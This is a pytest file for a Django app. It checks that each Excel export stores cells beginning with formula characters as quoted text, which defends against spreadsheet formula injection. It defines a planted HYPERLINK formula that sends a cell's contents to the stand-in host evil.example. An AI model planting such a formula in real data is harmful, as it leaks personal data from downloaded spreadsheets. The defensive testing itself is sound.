"""Every Excel export writes a text a spreadsheet would evaluate as quoted text (issue 15, point 3).

A formula planted in a name (a person, an organization, an area) reaches each export through
``core.excel.export_workbook``, the one helper; each export is opened here as the user who
would download it, and every cell starting with ``= + - @`` must be stored as a string with
Excel's quote prefix. The service request export, where the report came from (a portal
resident's ``HYPERLINK`` next to clear mobiles), is tested in ``tests/service``.
"""

from __future__ import annotations

import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from dangjian.core.excel.workbooks import FORMULA_STARTS
from dangjian.members.models import PartyMember
from dangjian.orgs.models import Area, Organization
from tests.factories import PersonFactory

PLANTED = '=HYPERLINK("http://evil.example/?"&C2,"详情")'


@pytest.fixture
def planted(world):
    """The formula in an organization's, an area's and a member's name."""
    Organization.objects.filter(pk=world.branch_a1.pk).update(name=PLANTED)
    Area.objects.filter(pk=world.grid_a1.pk).update(name=PLANTED)
    person = PersonFactory(name="+1+1")
    PartyMember.objects.create(person=person, org=world.branch_a1, status="full")
    return world


def _formula_cells(content: bytes) -> list:
    workbook = load_workbook(io.BytesIO(content))
    return [
        cell
        for sheet in workbook.worksheets
        for row in sheet.iter_rows(min_row=2)
        for cell in row
        if isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS)
    ]


EXPORTS = [
    ("members:member_export", {}, "+1+1"),
    ("orgs:org_export", {}, PLANTED),
    ("orgs:area_export", {}, PLANTED),
    ("dues:sheet_export", {"org": "branch_a1"}, "+1+1"),
    ("life:compliance_export", {}, PLANTED),
]


@pytest.mark.parametrize(("url_name", "args", "expected"), EXPORTS, ids=[e[0] for e in EXPORTS])
def test_each_export_stores_a_planted_formula_as_quoted_text(
    client, planted, admin, url_name, args, expected
):
    kwargs = {"org_pk": getattr(planted, args["org"]).pk} if "org" in args else {}
    client.force_login(admin)
    response = client.get(reverse(url_name, kwargs=kwargs))
    assert response.status_code == 200, response.content[:300]
    cells = _formula_cells(response.content)
    assert expected in [cell.value for cell in cells]
    for cell in cells:
        assert cell.data_type == "s" and cell.quotePrefix, (cell.coordinate, cell.value)


def test_the_service_figures_export_stores_a_planted_formula_as_quoted_text(client, planted, admin):
    client.force_login(admin)
    # 社区A's breakdown lists its grids by name, the planted one among them.
    response = client.get(reverse("service:figures_export"), {"node": planted.community_a.pk})
    assert response.status_code == 200
    cells = _formula_cells(response.content)
    assert PLANTED in [cell.value for cell in cells]
    for cell in cells:
        assert cell.data_type == "s" and cell.quotePrefix, (cell.coordinate, cell.value)
